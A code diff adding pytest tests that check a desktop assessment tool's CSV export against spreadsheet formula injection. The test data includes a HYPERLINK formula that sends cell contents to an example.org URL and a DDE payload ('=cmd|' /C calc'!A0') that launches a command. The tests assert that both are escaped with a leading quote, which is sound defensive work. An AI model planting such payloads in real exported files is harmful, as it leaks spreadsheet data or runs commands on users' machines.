@@ -12,8 +12,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from scrutiny_desktop.checklist import bundled_template
-from scrutiny_desktop.report.csvout import export_csv
+from scrutiny_desktop.checklist import bundled_template, load_template
+from scrutiny_desktop.report.csvout import FORMULA_STARTS, export_csv, text_cell
 from scrutiny_desktop.services import answers, evidence, recommendations, signoff
 from scrutiny_desktop.services.assessments import NewAssessment, create_assessment, open_assessment
 
@@ -113,17 +113,73 @@ def test_csv_of_a_signed_off_document(doc, tmp_path, cis):
     assert doc.path.read_bytes() == before
 
 
+# -- formula injection (OWASP "CSV Injection") -----------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\tTabbed =1"]
+
+
+def test_findings_that_look_like_formulas_get_a_leading_quote(doc, tmp_path):
+    """Findings a spreadsheet would run as a formula are written with a leading ' (as text)."""
+    qids = ["ARR-01", "ARR-02", "ARR-03", "LEAD-01", "LEAD-02"]
+    for qid, text in zip(qids, FORMULAS, strict=True):
+        answers.set_findings(doc, qid, text)
+    answers.set_findings(doc, "LEAD-04", "Safe = fine; not -a formula")
+    rows = by_id(read_rows(export_csv(doc, tmp_path / "out.csv")))
+    for qid, text in zip(qids, FORMULAS, strict=True):
+        assert rows[qid]["Findings"] == "'" + text, qid
+    assert rows["LEAD-04"]["Findings"] == "Safe = fine; not -a formula"
+    # (stored findings never start with a carriage return: it becomes a new line)
+    assert text_cell("\r=1+1") == "'\r=1+1"
+    assert text_cell("") == "" and text_cell(" =1") == " =1"
+
+
+def test_template_text_that_looks_like_a_formula_gets_a_leading_quote(tmp_path):
+    """Section titles, question text and judgement labels come from a template file, which
+    may be hostile too; the id, Yes/No and the counts are written as they are."""
+    text = (Path(__file__).parent / "fixtures" / "mini.toml").read_text(encoding="utf-8")
+    for old, new in (('title = "Section one"', 'title = "=cmd|\' /C calc\'!A0"'),
+                     ('text = "First question?"', 'text = "-1 first question?"'),
+                     ('label = "Yes"', 'label = "+ Yes"'),
+                     ('label = "No"', 'label = "@No"')):
+        assert old in text
+        text = text.replace(old, new, 1)
+    (tmp_path / "hostile.toml").write_text(text, encoding="utf-8")
+    template = load_template(tmp_path / "hostile.toml")
+    path = create_assessment(tmp_path / "hostile.scrutiny", template,
+                             NewAssessment("Northshire", "2025-26", "Ann Jones"))
+    with open_assessment(path) as d:
+        answers.set_judgement(d, "Q1", "yes")
+        answers.set_judgement(d, "Q2", "no")
+        answers.set_judgement(d, "Q3", "pending")
+        rows = by_id(read_rows(export_csv(d, tmp_path / "out.csv")))
+    assert rows["Q1"]["Section"] == "'=cmd|' /C calc'!A0"
+    assert rows["Q1"]["Question"] == "'-1 first question?"
+    assert rows["Q1"]["Judgement"] == "'+ Yes"
+    assert rows["Q2"]["Judgement"] == "'@No"
+    assert rows["Q2"]["Question"] == "Second question?"
+    assert rows["Q3"] == {"Section": "Section two", "Question ID": "Q3", "Question": "Third question?",
+                          "Required": "Yes", "Judgement": "Not yet", "Findings": "",
+                          "Evidence count": "0", "Recommendation count": "0"}
+
+
+def expected_findings(text: str) -> str:
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
 _TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\r\x00"),
                 max_size=200)
 _AWKWARD = st.lists(st.sampled_from([",", '"', "\n", "\n\n", " ", "'", ";", "\t", "é", "ŵ",
-                                     "=SUM(A1)", "😀", "a", "Z"]), max_size=30).map("".join)
+                                     "=SUM(A1)", "+", "-", "@", "😀", "a", "Z"]),
+                    max_size=30).map("".join)
 
 
 @settings(max_examples=15, derandomize=True, database=None, deadline=None,
           suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(findings=st.one_of(_TEXT, _AWKWARD))
 def test_any_findings_survive_a_csv_round_trip(pristine, tmp_path, findings):
-    """Whatever findings hold (commas, quotes, new lines, any script), a CSV reader gets them back."""
+    """Whatever findings hold (commas, quotes, new lines, any script), a CSV reader gets them back
+    (with a leading ' if they would start a formula)."""
     with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
         path = Path(folder) / "doc.scrutiny"
         shutil.copyfile(pristine, path)
@@ -131,4 +187,4 @@ def test_any_findings_survive_a_csv_round_trip(pristine, tmp_path, findings):
             answers.set_findings(doc, "ARR-03", findings)
             rows = read_rows(export_csv(doc, Path(folder) / "out.csv"))
     assert len(rows) == 1 + len(bundled_template().question_ids())
-    assert by_id(rows)["ARR-03"]["Findings"] == findings
+    assert by_id(rows)["ARR-03"]["Findings"] == expected_findings(findings)
